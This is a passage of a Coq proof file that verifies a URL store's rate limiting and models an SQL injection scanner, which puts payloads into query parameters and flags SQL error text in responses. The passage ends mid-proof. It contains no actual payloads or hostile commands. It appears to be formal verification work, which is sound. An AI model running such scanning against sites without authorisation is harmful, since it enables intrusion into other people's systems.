  isUrlTested now url s = (true, s) → submit now url s = (false, s).
Proof. intros Ht. unfold submit. rewrite Ht. simpl. by rewrite andb_false_r. Qed.

Lemma validateUrl_parsed url u : parseURL url = Some u → Utils.validateUrl url = true.
Proof. unfold Utils.validateUrl. by intros ->. Qed.

Lemma pathOf_parsed url u : parseURL url = Some u → pathOf url = pathname u.
Proof. unfold pathOf. by intros ->. Qed.

(** C3.  With [maxPathsPerDomain = 2] and [cooldownPeriod = 5000]: of three
    URLs of one domain with distinct paths, submitted while less than the
    cooldown has passed since the last commit, the first two are admitted and
    the third is rejected; a check made once the cooldown has passed answers
    false, leaves the domain's set of paths empty and lets the submission
    through; and no sequence of submissions takes a domain's set of paths
    above the limit. *)
Theorem C3_domain_rate_limit
    (s : URLStore) (o domain p1 p2 p3 p4 : string) (q1 q2 q3 q4 : SearchParams)
    (u1 u2 u3 u4 : string) (t1 t2 t3 t4 : Z) :
  maxPathsPerDomain (config s) = 2 → cooldownPeriod (config s) = 5000 →
  bounded s → seenDomains s !! domain = None → domain ≠ "" →
  parseURL u1 = Some (mkURL o domain p1 q1) →
  parseURL u2 = Some (mkURL o domain p2 q2) →
  parseURL u3 = Some (mkURL o domain p3 q3) →
  parseURL u4 = Some (mkURL o domain p4 q4) →
  p1 ≠ p2 → p1 ≠ p3 → p2 ≠ p3 → p4 ≠ p1 → p4 ≠ p2 →
  o +:+ p1 ∉ testedUrls s → o +:+ p2 ∉ testedUrls s →
  o +:+ p3 ∉ testedUrls s → o +:+ p4 ∉ testedUrls s →
  t3 - t2 < 5000 → 5000 ≤ t4 - t2 →
  let r1 := submit t1 u1 s in
  let r2 := submit t2 u2 r1.2 in
  let r3 := submit t3 u3 r2.2 in
  let check := isUrlTested t4 u4 r3.2 in
  (r1.1 = true ∧ r2.1 = true ∧ r3.1 = false) ∧
  (check.1 = false ∧ seenDomains check.2 !! domain = Some ∅ ∧
   (submit t4 u4 r3.2).1 = true) ∧
  (∀ submissions, bounded (submitAll submissions s)).
Proof.
  intros Hmax Hcool Hb Hunseen Hdom Hu1 Hu2 Hu3 Hu4 H12 H13 H23 H41 H42 Hn1 Hn2 Hn3 Hn4 Ht3 Ht4.
  assert (∀ u p q, parseURL u = Some (mkURL o domain p q) →
            normalizeUrl u = o +:+ p ∧ truthy (getDomain u) = Some domain ∧
            pathOf u = p ∧ Utils.validateUrl u = true) as Hparsed.
  { intros u p q Hu. rewrite (normalizeUrl_parsed _ _ Hu), (pathOf_parsed _ _ Hu).
    rewrite (validateUrl_parsed _ _ Hu). split; [done|]. split; [|done].
    by apply (getDomain_parsed _ _ Hu). }
  destruct (Hparsed _ _ _ Hu1) as (N1 & D1 & P1 & V1).
  destruct (Hparsed _ _ _ Hu2) as (N2 & D2 & P2 & V2).
  destruct (Hparsed _ _ _ Hu3) as (N3 & D3 & P3 & V3).
  destruct (Hparsed _ _ _ Hu4) as (N4 & D4 & P4 & V4).
  assert (∀ p p', p ≠ p' → o +:+ p ≠ o +:+ p') as Hinj.
  { intros p p' Hne Heq. by apply (inj (String.app o)) in Heq. }
  (* first submission *)
  assert (isUrlTested t1 u1 s = (false, s)) as E1.
  { apply isUrlTested_unseen with domain; [by rewrite N1 | done | done]. }
  set (s1 := markUrlAsTested t1 u1 s).
  assert (submit t1 u1 s = (true, s1)) as R1.
  { rewrite submit_admitted by (by rewrite ?E1). by rewrite E1. }
  assert (seenDomains s1 !! domain = Some {[p1]}) as S1.
  { unfold s1. rewrite (markUrlAsTested_seen _ _ _ _ D1), Hunseen, P1. simpl.
    by rewrite union_empty_r_L. }
  assert (testedUrls s1 = {[o +:+ p1]} ∪ testedUrls s) as T1.
  { unfold s1. by rewrite markUrlAsTested_testedUrls, N1. }
  assert (config s1 = config s) as C1 by apply markUrlAsTested_config.
  (* second submission *)
  assert (isUrlTested t2 u2 s1 = (false, s1)) as E2.
  { apply isUrlTested_below with domain {[p1]}; [|done|done|].
    - rewrite N2, T1, not_elem_of_union, not_elem_of_singleton.
      split; [apply Hinj; congruence | done].
    - rewrite size_singleton, C1, Hmax. lia. }
  set (s2 := markUrlAsTested t2 u2 s1).
  assert (submit t2 u2 s1 = (true, s2)) as R2.
  { rewrite submit_admitted by (by rewrite ?E2). by rewrite E2. }
  pose (paths2 := ({[p2]} ∪ {[p1]} : gset string)).
  assert (seenDomains s2 !! domain = Some paths2) as S2.
  { unfold s2. by rewrite (markUrlAsTested_seen _ _ _ _ D2), S1, P2. }
  assert (size paths2 = 2%nat) as Z2.
  { unfold paths2. rewrite size_union by (apply disjoint_singleton_l, not_elem_of_singleton; congruence).
    by rewrite !size_singleton. }
  assert (testedUrls s2 = {[o +:+ p2]} ∪ ({[o +:+ p1]} ∪ testedUrls s)) as T2.
  { unfold s2. by rewrite markUrlAsTested_testedUrls, N2, T1. }
  assert (config s2 = config s) as C2.
  { unfold s2. by rewrite markUrlAsTested_config. }
  assert (lastTestedTime s2 !! domain = Some t2) as L2.
  { unfold s2. by apply markUrlAsTested_last. }
  (* third submission, within the cooldown *)
  assert (isUrlTested t3 u3 s2 = (true, s2)) as E3.
  { apply isUrlTested_limited with domain paths2; [|done|done| |].
    - rewrite N3, T2, !not_elem_of_union, !not_elem_of_singleton.
      repeat split; [apply Hinj; congruence | apply Hinj; congruence | done].
    - rewrite Z2, C2, Hmax. lia.
    - rewrite L2, C2, Hcool. simpl. lia. }
  (* a check after the cooldown *)
  assert (isUrlTested t4 u4 s2 = (false, reset t4 domain s2)) as E4.
  { apply isUrlTested_reset with paths2; [|done|done| |].
    - rewrite N4, T2, !not_elem_of_union, !not_elem_of_singleton.
      repeat split; [apply Hinj; congruence | apply Hinj; congruence | done].
    - rewrite Z2, C2, Hmax. lia.
    - rewrite L2, C2, Hcool. simpl. lia. }
  cbn zeta. rewrite R1. cbn [fst snd]. rewrite R2. cbn [fst snd].
  rewrite (submit_rejected _ _ _ E3). cbn [fst snd].
  split; [done|]. split.
  - rewrite E4. cbn [fst snd]. split; [done|]. split.
    + unfold reset. simpl. apply lookup_insert_eq.
    + rewrite submit_admitted by (by rewrite ?E4). done.
  - intros submissions. apply submitAll_bounded; [lia | done].
Qed.

(** C9, as amended.  For a URL whose normalized form is not in the tested
    set, when the record of its domain holds at least [maxPathsPerDomain] paths
    and the cooldown has passed, the admission check answers false after
    emptying the domain's set of paths and setting its last-test time to the
    current time: the check alone changes the store. *)
Theorem C9_check_resets_domain now url s domain paths :
  normalizeUrl url ∉ testedUrls s →
  truthy (getDomain url) = Some domain →
  seenDomains s !! domain = Some paths →
  maxPathsPerDomain (config s) ≤ Z.of_nat (size paths) →
  cooldownPeriod (config s) ≤ now - default 0 (lastTestedTime s !! domain) →
  (isUrlTested now url s).1 = false ∧
  seenDomains (isUrlTested now url s).2 !! domain = Some ∅ ∧
  lastTestedTime (isUrlTested now url s).2 !! domain = Some now ∧
  (paths ≠ ∅ → (isUrlTested now url s).2 ≠ s).
Proof.
  intros Hn Hd Hs Hfull Hcool.
  rewrite (isUrlTested_reset _ _ _ _ _ Hn Hd Hs Hfull Hcool). simpl.
  split; [done|]. rewrite !lookup_insert_eq. split; [done|]. split; [done|].
  intros Hne Heq. assert (seenDomains (reset now domain s) !! domain = Some paths) as Hl.
  { by rewrite Heq. }
  simpl in Hl. rewrite lookup_insert_eq in Hl. congruence.
Qed.

End StoreFacts.

(** ** The URL store on concrete URLs *)

Section StoreExamples.
Import UrlStore.

(** A parser that knows a handful of URLs. *)
Definition exampleUrls : list (string * URL) :=
  [ ("https://a.com/x?id=1&utm_source=x",
     mkURL "https://a.com" "a.com" "/x" [("id", "1"); ("utm_source", "x")]);
    ("https://a.com/x?id=1", mkURL "https://a.com" "a.com" "/x" [("id", "1")]);
    ("https://a.com/y?id=1", mkURL "https://a.com" "a.com" "/y" [("id", "1")]);
    ("https://a.com/z?id=1", mkURL "https://a.com" "a.com" "/z" [("id", "1")]);
    ("https://a.com/w?id=1", mkURL "https://a.com" "a.com" "/w" [("id", "1")]);
    ("http://shop.test/item.php?id=1&cat=2",
     mkURL "http://shop.test" "shop.test" "/item.php" [("id", "1"); ("cat", "2")]);
    ("http://shop.test/item.php?id=1",
     mkURL "http://shop.test" "shop.test" "/item.php" [("id", "1")]) ].

Definition exampleParser : UrlParser := λ url, Scanner.mapGet url exampleUrls.

Lemma C2_tested_at_most_once_witness :
  let s' := performAll (H := exampleParser)
              [CleanupOldEntries 900000; IsUrlTested 900001 "https://a.com/y?id=1"]
              (markUrlAsTested (H := exampleParser) 10 "https://a.com/x?id=1&utm_source=x"
                 (new DEFAULT_CONFIG)) in
  (isUrlTested (H := exampleParser) 900002 "https://a.com/x?id=1" s').1 = true ∧
  (submit (H := exampleParser) 900002 "https://a.com/x?id=1" s').1 = false.
Proof.
  apply (C2_tested_at_most_once (H := exampleParser)). reflexivity.
Defined.

Definition limitTwo : URLStoreConfig := mkConfig 2 5000 None.

Lemma C3_domain_rate_limit_witness :
  let r1 := submit (H := exampleParser) 1000 "https://a.com/x?id=1" (new limitTwo) in
  let r2 := submit (H := exampleParser) 2000 "https://a.com/y?id=1" r1.2 in
  let r3 := submit (H := exampleParser) 3000 "https://a.com/z?id=1" r2.2 in
  let check := isUrlTested (H := exampleParser) 7000 "https://a.com/w?id=1" r3.2 in
  (r1.1 = true ∧ r2.1 = true ∧ r3.1 = false) ∧
  (check.1 = false ∧ seenDomains check.2 !! "a.com" = Some ∅ ∧
   (submit (H := exampleParser) 7000 "https://a.com/w?id=1" r3.2).1 = true) ∧
  (∀ submissions, bounded (submitAll (H := exampleParser) submissions (new limitTwo))).
Proof.
  apply (C3_domain_rate_limit (H := exampleParser) (new limitTwo)
           "https://a.com" "a.com" "/x" "/y" "/z" "/w"
           [("id", "1")] [("id", "1")] [("id", "1")] [("id", "1")]);
    try reflexivity; try discriminate; try lia; apply not_elem_of_empty.
Defined.

Definition limitOne : URLStoreConfig := mkConfig 1 5000 None.

Definition visited : URLStore :=
  markUrlAsTested (H := exampleParser) 0 "https://a.com/x?id=1" (new limitOne).

Lemma visited_seen : seenDomains visited !! "a.com" = Some {["/x"]}.
Proof.
  unfold visited. rewrite (markUrlAsTested_seen (H := exampleParser) _ _ _ "a.com") by done.
  change (pathOf (H := exampleParser) "https://a.com/x?id=1") with "/x".
  unfold new. cbn [seenDomains]. rewrite lookup_empty. cbn [from_option id].
  by rewrite union_empty_r_L.
Qed.

Lemma visited_last : lastTestedTime visited !! "a.com" = Some 0.
Proof.
  unfold visited. by rewrite (markUrlAsTested_last (H := exampleParser) _ _ _ "a.com").
Qed.

Lemma C9_check_resets_domain_witness :
  (isUrlTested (H := exampleParser) 10000 "https://a.com/y?id=1" visited).1 = false ∧
  seenDomains (isUrlTested (H := exampleParser) 10000 "https://a.com/y?id=1" visited).2
    !! "a.com" = Some ∅ ∧
  lastTestedTime (isUrlTested (H := exampleParser) 10000 "https://a.com/y?id=1" visited).2
    !! "a.com" = Some 10000 ∧
  (({["/x"]} : gset string) ≠ ∅ →
   (isUrlTested (H := exampleParser) 10000 "https://a.com/y?id=1" visited).2 ≠ visited).
Proof.
  apply (C9_check_resets_domain (H := exampleParser) 10000 "https://a.com/y?id=1" visited
           "a.com" {["/x"]}).
  - unfold visited. rewrite markUrlAsTested_testedUrls.
    rewrite not_elem_of_union, not_elem_of_singleton. split; [discriminate|].
    apply not_elem_of_empty.
  - reflexivity.
  - apply visited_seen.
  - rewrite size_singleton. unfold visited. rewrite markUrlAsTested_config. simpl. lia.
  - rewrite visited_last. unfold visited. rewrite markUrlAsTested_config. simpl. lia.
Defined.

(** The claim C9 as it stands fails for a URL that is already in the tested
    set: its domain record is full and the cooldown has passed, yet the check
    answers true and leaves the record as it was. *)
Lemma C9_counterexample :
  truthy (getDomain (H := exampleParser) "https://a.com/x?id=1") = Some "a.com" ∧
  seenDomains visited !! "a.com" = Some {["/x"]} ∧
  maxPathsPerDomain (config visited) ≤ Z.of_nat (size ({["/x"]} : gset string)) ∧
  cooldownPeriod (config visited) ≤ 10000 - default 0 (lastTestedTime visited !! "a.com") ∧
  isUrlTested (H := exampleParser) 10000 "https://a.com/x?id=1" visited = (true, visited) ∧
  seenDomains (isUrlTested (H := exampleParser) 10000 "https://a.com/x?id=1" visited).2
    !! "a.com" ≠ Some ∅.
Proof.
  assert (isUrlTested (H := exampleParser) 10000 "https://a.com/x?id=1" visited
          = (true, visited)) as Htested.
  { apply isUrlTested_known. apply markUrlAsTested_tested. }
  assert (config visited = limitOne) as Hc.
  { unfold visited. by rewrite markUrlAsTested_config. }
  split; [reflexivity|]. split; [apply visited_seen|].
  split; [rewrite size_singleton, Hc; simpl; lia|].
  split; [rewrite visited_last, Hc; simpl; lia|].
  rewrite Htested. split; [done|]. cbn [snd]. rewrite visited_seen.
  intros [=].
Qed.

End StoreExamples.

(** ** The scanner: traces *)

Section Traces.
Import Scanner.

(** The world after a sequence of effects. *)
Definition emits (evs : list Event) (w : World) : World :=
  foldl (λ w ev, emit ev w) w evs.

(** The result object after the mutations of a sequence of effects. *)
Definition replay (evs : list Event) (r : SQLInjectionResult) : SQLInjectionResult :=
  foldl (λ r ev, applyEvent ev r) r evs.

Lemma emits_app evs1 evs2 w : emits (evs1 ++ evs2) w = emits evs2 (emits evs1 w).
Proof. apply foldl_app. Qed.

Lemma emits_cons ev evs w : emits (ev :: evs) w = emits evs (emit ev w).
Proof. done. Qed.

Lemma emits_snoc ev evs w : emit ev (emits evs w) = emits (evs ++ [ev]) w.
Proof. by rewrite emits_app. Qed.

Lemma emits_trace evs w : trace (emits evs w) = trace w ++ evs.
Proof.
  revert w. induction evs as [|ev evs IH]; intros w; simpl.
  - by rewrite app_nil_r.
  - rewrite IH. simpl. by rewrite <- app_assoc.
Qed.

Lemma emits_result evs w : result (emits evs w) = replay evs (result w).
Proof. revert w. induction evs as [|ev evs IH]; intros w; simpl; [done | by rewrite IH]. Qed.

Lemma replay_app evs1 evs2 r : replay (evs1 ++ evs2) r = replay evs2 (replay evs1 r).
Proof. apply foldl_app. Qed.

(** Effects that leave the result object alone. *)
Definition silent (ev : Event) : Prop :=
  match ev with Mutate _ => False | _ => True end.

Lemma replay_silent evs r : Forall silent evs → replay evs r = r.
Proof.
  revert r. induction evs as [|ev evs IH]; intros r Hs; [done|].
  apply Forall_cons in Hs as [Hev Hs]. simpl. rewrite IH by done. by destruct ev.
Qed.

Lemma silent_requests urls : Forall silent (map Request urls).
Proof. induction urls; constructor; done. Qed.

Lemma request_sent url urls : Request url ∈ map Request urls → url ∈ urls.
Proof. intros (x & [= <-] & Hx)%list_elem_of_fmap. done. Qed.

End Traces.

(** ** The scanner: the loop over the query parameters *)

Section ParamLoop.
Import Scanner.
Context `{Environment}.

(** The URLs a loop over the parameters of [testUrl] requests when every round
    sets the parameter at hand to [payload] and no round leaves the loop. *)
Fixpoint substitutions (rounds index : nat) (testUrl : URL) (payload : string) : list URL :=
  match rounds with
  | O => []
  | S rounds' =>
      match searchParams testUrl !! index with
      | None => []
      | Some (param, _) =>
          let testUrl := setParam param payload testUrl in
          testUrl :: substitutions rounds' (S index) testUrl payload
      end
  end.

Definition probes (testUrl : URL) (payload : string) : list URL :=
  substitutions (length (searchParams testUrl)) 0 testUrl payload.

(** [set] on a parameter that is present never lengthens the list, so the
    rounds of [probes] are all the rounds of the unbounded loop of the
    sources: with more rounds the same requests are sent. *)
Lemma delete_length name (sp : SearchParams) : (length (Js.delete name sp) ≤ length sp)%nat.
Proof. apply length_filter. Qed.

Lemma setFirst_length name v (sp : SearchParams) :
  (length (setFirst name v sp) ≤ length sp)%nat.
Proof.
  induction sp as [|[n x] sp IH]; simpl; [done|].
  case_bool_decide; simpl; [|lia]. pose proof (delete_length name sp). lia.
Qed.

Lemma set_present_length name v (sp : SearchParams) i x :
  sp !! i = Some (name, x) → (length (Js.set name v sp) ≤ length sp)%nat.
Proof.
  intros Hi. unfold Js.set, has. rewrite bool_decide_eq_true_2; [apply setFirst_length|].
  apply list_elem_of_fmap. exists (name, x). split; [done|]. by eapply list_elem_of_lookup_2.
Qed.

Lemma substitutions_rounds extra rounds index testUrl payload :
  (length (searchParams testUrl) ≤ index + rounds)%nat →
  substitutions (rounds + extra) index testUrl payload =
  substitutions rounds index testUrl payload.
Proof.
  revert index testUrl. induction rounds as [|rounds IH]; intros index testUrl Hlen; simpl.
  - destruct extra; simpl; [done|]. rewrite lookup_ge_None_2; [done|lia].
  - destruct (searchParams testUrl !! index) as [[param value]|] eqn:Hi; [|done].
    f_equal. apply IH. simpl.
    pose proof (set_present_length param payload _ _ _ Hi). lia.
Qed.

Lemma probes_rounds extra testUrl payload :
  substitutions (length (searchParams testUrl) + extra) 0 testUrl payload =
  probes testUrl payload.
Proof. by apply substitutions_rounds. Qed.

(** How a loop that stops at the first response accepted by [hit] ends. *)
Inductive Scan :=
| Hit (sent : list URL)                       (* the last request sent was accepted *)
| Broken (sent : list URL) (message : string) (* the last request sent failed *)
| Clean (sent : list URL)                     (* every request was answered, none accepted *).

Definition sending (url : URL) (s : Scan) : Scan :=
  match s with
  | Hit sent => Hit (url :: sent)
  | Broken sent message => Broken (url :: sent) message
  | Clean sent => Clean (url :: sent)
  end.

Fixpoint scan (hit : string → bool) (urls : list URL) : Scan :=
  match urls with
  | [] => Clean []
  | url :: rest =>
      match transport url with
      | Failure message => Broken [url] message
      | Body data => if hit data then Hit [url] else sending url (scan hit rest)
      end
  end.

(** A loop body that sets the parameter, sends the request and leaves the
    function with [v], after the effects [hitEvents], when [hit] accepts the
    response; this for the requests of the list [urls]. *)
Definition ProbingOn {R} (urls : list URL) (payload : string) (hit : string → bool)
    (hitEvents : list Event) (v : R) (body : string → URL → M (URL * option R)) : Prop :=
  ∀ param testUrl w,
    setParam param payload testUrl ∈ urls →
    body param testUrl w =
      let url := setParam param payload testUrl in
      match transport url with
      | Body data =>
          if hit data then (Ok (url, Some v), emits (Request url :: hitEvents) w)
          else (Ok (url, None), emit (Request url) w)
      | Failure message => (Throw message, emit (Request url) w)
      end.

(** The same, whatever the request. *)
Definition Probing {R} (payload : string) (hit : string → bool) (hitEvents : list Event)
    (v : R) (body : string → URL → M (URL * option R)) : Prop :=
  ∀ urls, ProbingOn urls payload hit hitEvents v body.

Lemma forParamsFrom_scan {R} payload hit hitEvents (v : R) body rounds index testUrl w :
  ProbingOn (substitutions rounds index testUrl payload) payload hit hitEvents v body →
  match scan hit (substitutions rounds index testUrl payload) with
  | Hit sent =>
      ∃ url, forParamsFrom rounds index testUrl body w =
               (Ok (url, Some v), emits (map Request sent ++ hitEvents) w)
  | Broken sent message =>
      forParamsFrom rounds index testUrl body w = (Throw message, emits (map Request sent) w)
  | Clean sent =>
      ∃ url, forParamsFrom rounds index testUrl body w =
               (Ok (url, None), emits (map Request sent) w)
  end.
Proof.
  revert index testUrl w.
  induction rounds as [|rounds IH]; intros index testUrl w Hbody; simpl in *;
    [eexists; reflexivity|].
  destruct (searchParams testUrl !! index) as [[param value]|]; simpl in *;
    [|eexists; reflexivity].
  unfold bind. rewrite Hbody by (by left). cbn zeta.
  destruct (transport (setParam param payload testUrl)) as [data|message] eqn:Ht; [|done].
  destruct (hit data); [eexists; reflexivity|].
  specialize (IH (S index) (setParam param payload testUrl)
                 (emit (Request (setParam param payload testUrl)) w)).
  destruct (scan hit _) as [sent|sent message|sent]; simpl; apply IH;
    intros ????; apply Hbody; by right.
Qed.

(** Every URL of a list is answered by a body that [hit] does not accept. *)
Definition unanswered (hit : string → bool) (urls : list URL) : Prop :=
  ∀ url, url ∈ urls → ∃ data, transport url = Body data ∧ hit data = false.

(** The first URL of a list not so answered is answered by an accepted body. *)
Definition answers (hit : string → bool) (urls : list URL) : Prop :=
  ∃ before url after data,
    urls = before ++ url :: after ∧ unanswered hit before ∧
    transport url = Body data ∧ hit data = true.

(** The first URL of a list not so answered meets a failure. *)
Definition breaks (hit : string → bool) (urls : list URL) (message : string) : Prop :=
  ∃ before url after,
    urls = before ++ url :: after ∧ unanswered hit before ∧
    transport url = Failure message.

Lemma unanswered_nil hit : unanswered hit [].
Proof. intros url Hin. by apply elem_of_nil in Hin. Qed.

Lemma unanswered_cons hit url urls :
  unanswered hit (url :: urls) ↔
  (∃ data, transport url = Body data ∧ hit data = false) ∧ unanswered hit urls.
Proof.
  unfold unanswered. split.
  - intros Hall. split; [apply Hall; left | intros u' Hin; apply Hall; by right].
  - intros [Hurl Hall] u' [->|Hin]%elem_of_cons; auto.
Qed.

Lemma scan_sent hit urls :
  ∃ rest, urls = match scan hit urls with Hit sent | Broken sent _ | Clean sent => sent end ++ rest.
Proof.
  induction urls as [|url urls [rest IH]]; simpl; [by exists []|].
  destruct (transport url) as [data|message]; [|by exists urls].
  destruct (hit data); [by exists urls|].
  destruct (scan hit urls); simpl in *; exists rest; congruence.
Qed.

Lemma scan_hit hit urls :
  (∃ sent, scan hit urls = Hit sent) ↔ answers hit urls.
Proof.
  induction urls as [|url urls IH]; simpl.
  - split; [by intros [? [=]]|]. intros (before & ? & ? & ? & Heq & _). by destruct before.
  - destruct (transport url) as [data|message] eqn:Ht.
    + destruct (hit data) eqn:Hh.
      * split; [|eauto]. intros _. exists [], url, urls, data. split; [done|].
        split; [apply unanswered_nil | done].
      * split.
        -- intros [sent Hs]. destruct (scan hit urls) as [sent'| |] eqn:E; try done.
           destruct (proj1 IH) as (before & x & after & d & -> & Hb & Hx & Hd); [eauto|].
           exists (url :: before), x, after, d. split; [done|].
           split; [|done]. apply unanswered_cons. eauto.
        -- intros (before & x & after & d & Heq & Hb & Hx & Hd).
           destruct before as [|b before]; simpl in Heq; injection Heq as <- ->.
           { congruence. }
           apply unanswered_cons in Hb as [_ Hb].
           destruct (proj2 IH) as [sent ->]; [by exists before, x, after, d|]. eauto.
    + split; [by intros [? [=]]|].
      intros (before & x & after & d & Heq & Hb & Hx & Hd).
      destruct before as [|b before]; simpl in Heq; injection Heq as <- ->; [congruence|].
      apply unanswered_cons in Hb as [(? & ? & _) _]. congruence.
Qed.

Lemma scan_broken hit urls message :
  (∃ sent, scan hit urls = Broken sent message) ↔ breaks hit urls message.
Proof.
  induction urls as [|url urls IH]; simpl.
  - split; [by intros [? [=]]|]. intros (before & ? & ? & Heq & _). by destruct before.
  - destruct (transport url) as [data|message'] eqn:Ht.
    + destruct (hit data) eqn:Hh.
      * split; [by intros [? [=]]|].
        intros (before & x & after & Heq & Hb & Hx).
        destruct before as [|b before]; simpl in Heq; injection Heq as <- ->; [congruence|].
        apply unanswered_cons in Hb as [(? & ? & ?) _]. congruence.
      * split.
        -- intros [sent Hs]. destruct (scan hit urls) as [|sent' m|] eqn:E; try done.
           injection Hs as <- <-.
           destruct (proj1 IH) as (before & x & after & -> & Hb & Hx); [eauto|].
           exists (url :: before), x, after. split; [done|].
           split; [|done]. apply unanswered_cons. eauto.
        -- intros (before & x & after & Heq & Hb & Hx).
           destruct before as [|b before]; simpl in Heq; injection Heq as <- ->.
           { congruence. }
           apply unanswered_cons in Hb as [_ Hb].
           destruct (proj2 IH) as [sent ->]; [by exists before, x, after|]. eauto.
    + split.
      * intros [sent [= <- <-]]. exists [], url, urls. split; [done|].
        split; [apply unanswered_nil | done].
      * intros (before & x & after & Heq & Hb & Hx).
        destruct before as [|b before]; simpl in Heq; injection Heq as <- ->.
        -- rewrite Ht in Hx. injection Hx as ->. eauto.
        -- apply unanswered_cons in Hb as [(? & ? & _) _]. congruence.
Qed.

(** *** Parameters with distinct names *)

(** The parameters with the values of the first [k] replaced by [v]. *)
Definition substituteFirst (k : nat) (v : string) (sp : SearchParams) : SearchParams :=
  map (λ p, (p.1, v)) (take k sp) ++ drop k sp.

Lemma delete_absent name (sp : SearchParams) : name ∉ sp.*1 → Js.delete name sp = sp.
Proof.
  induction sp as [|[n x] sp IH]; [done|]. intros Hnot.
  apply not_elem_of_cons in Hnot as [Hne Hnot]. unfold Js.delete in *.
  rewrite filter_cons, decide_True by (simpl in *; congruence). by rewrite IH.
Qed.

Lemma set_at name v (sp : SearchParams) i x :
  NoDup sp.*1 → sp !! i = Some (name, x) → Js.set name v sp = <[i := (name, v)]> sp.
Proof.
  intros Hnd Hi. unfold Js.set, has.
  rewrite bool_decide_eq_true_2.
  2:{ apply list_elem_of_fmap. exists (name, x). split; [done|]. by eapply list_elem_of_lookup_2. }
  revert i Hnd Hi. induction sp as [|[n y] sp IH]; intros i Hnd Hi; [done|].
  apply NoDup_cons in Hnd as [Hn Hnd]. simpl. case_bool_decide as Heq.
  - subst n. destruct i as [|i]; simpl in *.
    + by rewrite delete_absent.
    + exfalso. apply Hn. apply list_elem_of_fmap. exists (name, x). split; [done|].
      by eapply list_elem_of_lookup_2.
  - destruct i as [|i]; simpl in *; [congruence|]. by rewrite (IH i).
Qed.

Lemma substituteFirst_names k v sp : (substituteFirst k v sp).*1 = sp.*1.
Proof.
  unfold substituteFirst. rewrite fmap_app, <- list_fmap_compose.
  rewrite <- (take_drop k sp) at 3. rewrite fmap_app. f_equal.
Qed.

Lemma substituteFirst_lookup k v sp : substituteFirst k v sp !! k = sp !! k.
Proof.
  unfold substituteFirst. destruct (decide (k ≤ length sp)%nat).
  - rewrite lookup_app_r; rewrite length_map, length_take; [|lia].
    rewrite lookup_drop. f_equal. lia.
  - rewrite lookup_ge_None_2; [|rewrite length_app, length_map, length_take, length_drop; lia].
    symmetry. apply lookup_ge_None_2. lia.
Qed.

Lemma substituteFirst_S k v sp name x :
  sp !! k = Some (name, x) →
  <[k := (name, v)]> (substituteFirst k v sp) = substituteFirst (S k) v sp.
Proof.
  intros Hk. unfold substituteFirst.
  pose proof (lookup_lt_Some _ _ _ Hk) as Hlt.
  rewrite insert_app_r_alt; rewrite length_map, length_take; [|lia].
  replace (k - k `min` length sp)%nat with 0%nat by lia.
  rewrite (drop_S _ _ _ Hk). simpl.
  rewrite (take_S_r _ _ _ Hk), map_app, <- app_assoc. done.
Qed.

Lemma substitutions_distinct rounds index u v :
  NoDup (searchParams u).*1 → (length (searchParams u) ≤ rounds + index)%nat →
  substitutions rounds index (withParams u (substituteFirst index v (searchParams u))) v =
    map (λ k, withParams u (substituteFirst k v (searchParams u)))
        (seq (S index) (length (searchParams u) - index)).
Proof.
  intros Hnd. revert index. induction rounds as [|rounds IH]; intros index Hlen; simpl.
  - by replace (length (searchParams u) - index)%nat with 0%nat by lia.
  - rewrite substituteFirst_lookup.
    destruct (searchParams u !! index) as [[name x]|] eqn:Hi.
    + pose proof (lookup_lt_Some _ _ _ Hi) as Hlt.
      replace (length (searchParams u) - index)%nat
        with (S (length (searchParams u) - S index)) by lia.
      simpl. unfold setParam at 1 2. simpl.
      rewrite (set_at name v _ index x);
        [| by rewrite substituteFirst_names | by rewrite substituteFirst_lookup].
      rewrite (substituteFirst_S _ _ _ _ _ Hi).
      f_equal. rewrite <- IH by lia. done.
    + apply lookup_ge_None_1 in Hi.
      by replace (length (searchParams u) - index)%nat with 0%nat by lia.
Qed.

(** With distinct parameter names, the [k]-th request of a loop carries the
    payload in the first [k] parameters and the original values in the others. *)
Lemma probes_distinct u v :
  NoDup (searchParams u).*1 →
  probes u v = map (λ k, withParams u (substituteFirst k v (searchParams u)))
                   (seq 1 (length (searchParams u))).
Proof.
  intros Hnd. unfold probes.
  pose proof (substitutions_distinct (length (searchParams u)) 0 u v Hnd ltac:(lia)) as Hs.
  replace (withParams u (substituteFirst 0 v (searchParams u))) with u in Hs by by destruct u.
  by rewrite Nat.sub_0_r in Hs.
Qed.

End ParamLoop.

(** ** The scanner: detection *)

Section Detection.
Import Scanner.
Context `{Environment}.

(** What [sanitizePayload] makes of a payload that fits. *)
Definition sanitized (payload : string) : string :=
  trim (removeChars Utils.isBreakOrSemicolon payload).

(** The test of [testBasicVulnerability] on a response body. *)
Definition sqlHit (data : string) : bool := matchesSqlError (toLowerCase data).

Definition detectionWarning (payload message : string) : Event :=
  Log (mkLog "WARN" ("Error testing payload " +:+ payload +:+ ": " +:+ message)).

(** Whether a payload is detected on [u], and the effects of its round. *)
Definition payloadEvents (config : ScanConfig) (u : URL) (payload : string)
    : bool * list Event :=
  let v := sanitized payload in
  match scan sqlHit (probes u v) with
  | Hit sent =>
      (true, map Request sent ++
             [Log (mkLog "INFO" ("SQL injection detected with payload: " +:+ v));
              Mutate (PushSuccessfulPayload v)])
  | Broken sent message => (false, map Request sent ++ [detectionWarning v message])
  | Clean sent => (false, map Request sent ++ [Delay (requestDelay config)])
  end.

(** Whether some payload of a list is detected, and the effects of the loop. *)
Fixpoint detection (config : ScanConfig) (u : URL) (payloads : list string)
    : bool * list Event :=
  match payloads with
  | [] => (false, [])
  | payload :: rest =>
      let '(found, evs) := payloadEvents config u payload in
      if found then (true, evs)
      else let '(found, evs') := detection config u rest in (found, evs ++ evs')
  end.

Lemma detectPayload_run url u config payload w :
  parseURL url = Some u →
  Z.of_nat (String.length payload) ≤ maxPayloadLength config →
  detectPayload url config payload w =
    (Ok (if (payloadEvents config u payload).1 then Some true else None),
     emits (payloadEvents config u payload).2 w).
Proof.
  intros Hu Hfit. unfold detectPayload, sanitizePayload.
  rewrite (sanitizePayload_fits _ _ Hfit). fold (sanitized payload).
  unfold bind at 1, lift. unfold tryCatch, newURL. rewrite Hu. unfold bind at 1, ret at 1.
  unfold forParams, payloadEvents, probes.
  set (body := λ (param : string) (testUrl : URL), _).
  assert (Probing (sanitized payload) sqlHit
            [Log (mkLog "INFO" ("SQL injection detected with payload: " +:+ sanitized payload));
             Mutate (PushSuccessfulPayload (sanitized payload))] true body) as Hbody.
  { intros urls param testUrl w' _.
    unfold body, bind, httpGet, bind, perform, log, mutate, perform.
    cbn zeta. fold (sqlHit). destruct (transport _) as [data|message]; [|done].
